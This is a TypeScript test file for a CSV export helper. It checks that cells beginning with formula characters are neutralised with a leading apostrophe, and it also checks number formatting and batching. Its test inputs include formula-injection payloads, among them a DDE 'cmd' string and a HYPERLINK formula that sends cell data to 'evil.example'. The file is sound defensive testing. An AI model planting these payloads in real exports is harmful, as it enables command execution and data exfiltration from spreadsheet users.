import type { Language } from "@packhaus/contract/members/schema"
import { parse } from "csv-parse/sync"
import { expect, it } from "vitest"
import { CSV_BATCH, tableOf } from "./csv.ts"

type Row = { value: string | number | null }

async function textOf(values: Row["value"][], language: Language = "de") {
  const rows = values.map((value): Row => ({ value }))
  const table = await tableOf<Row>({
    name: "test",
    language,
    columns: [{ heading: "Wert", cell: ({ value }) => value }],
    read: async (last) => {
      const start = last ? rows.indexOf(last) + 1 : 0
      return rows.slice(start, start + CSV_BATCH)
    },
  })
  let text = ""
  for await (const piece of table.text) text += piece
  return text
}
const read = (text: string): string[][] => parse(text, { bom: true, delimiter: ";" })

it.each([
  "=1+1",
  "+49 40 123",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "  =1+1",
  "\u00a0=1+1",
  "\u200b=1+1",
  "＝1+1",
  '=HYPERLINK("https://evil.example?"&A1)',
])("%j stays text in a spreadsheet", async (text) => {
  expect(read(await textOf([text]))[1]?.[0]).toBe(`'${text}`)
})

it.each(["plain", 'with "quotes"', "a;b,c", "two\nlines", "a=b", "5-3", "ä€", ""])(
  "%j is what it was",
  async (text) => {
    expect(read(await textOf([text]))[1]?.[0]).toBe(text)
  },
)

it("writes figures as they are read in the language, minus included, and nothing for null", async () => {
  expect(await textOf([-12.5])).toBe('\ufeff"Wert"\r\n-12,5\r\n')
  expect(await textOf([-12.5], "en")).toBe('\ufeff"Wert"\r\n-12.5\r\n')
  expect(await textOf([null])).toBe('\ufeff"Wert"\r\n\r\n')
})

it.each([0, CSV_BATCH - 1, CSV_BATCH, 2 * CSV_BATCH + 1])(
  "%i rows are all there, once and in order",
  async (count) => {
    const rows = Array.from({ length: count }, (_, index) => index)
    const [, ...told] = read(await textOf(rows))
    expect(told.map(([cell]) => Number(cell))).toEqual(rows)
  },
)
